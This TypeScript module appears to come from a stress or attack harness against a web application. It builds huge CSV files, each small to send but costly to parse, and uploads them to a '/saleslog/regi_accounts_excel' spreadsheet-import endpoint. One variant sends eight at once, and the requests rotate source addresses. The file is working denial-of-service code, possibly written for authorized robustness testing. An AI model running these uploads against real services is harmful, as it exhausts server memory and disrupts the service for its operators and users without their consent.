// Tables that are small to send and large to hold: very many cells, and as many as are allowed.
import { send, multipartType, inParallel, multipart, type Response, type Attack, type Target } from './target.ts'

/** @param cell what stands in each cell but the first of a row */
function csv(rows: number, columns: number, cell: string): Buffer {
  const heads = ['고객사명', ...Array.from({ length: columns - 1 }, (_, at) => `열${at}`)].join(',')
  const rest = `,${cell}`.repeat(columns - 1)
  return Buffer.from(`${heads}\n${Array.from({ length: rows }, (_, row) => `n${row}${rest}`).join('\n')}\n`)
}

function upload(site: Target, table: Buffer, from: string, signal: AbortSignal): Promise<Response> {
  return send(site, {
    path: '/saleslog/regi_accounts_excel',
    body: multipart({}, 'fileup', [['a.csv', table]]),
    type: multipartType,
    token: site.token ?? undefined,
    from,
    signal,
  })
}
const attack = (name: string, count: number, net: number, make: () => Buffer): Attack => ({
  name,
  room: 'sheets',
  needs: 'a token',
  ready(site) {
    const table = make()
    return async (tally, signal) => {
      const started = performance.now()
      await inParallel(count, async (at) =>
        tally.add((await upload(site, table, `127.0.${net}.${at + 1}`, signal)).said),
      )
      return `${(table.length / 1e6).toFixed(1)} MB each, all in ${((performance.now() - started) / 1000).toFixed(1)} s`
    }
  },
})

export const sheets: Attack[] = [
  attack('a CSV of 45,000 × 150 cells', 1, 40, () => csv(45_000, 150, 'x')),
  attack('a CSV of 44,000 × 150 cells, eight times at once', 8, 41, () => csv(44_000, 150, 'xx')),
  attack('a CSV of 50,000 × 30 cells', 1, 42, () => csv(50_000, 30, '한울')),
]
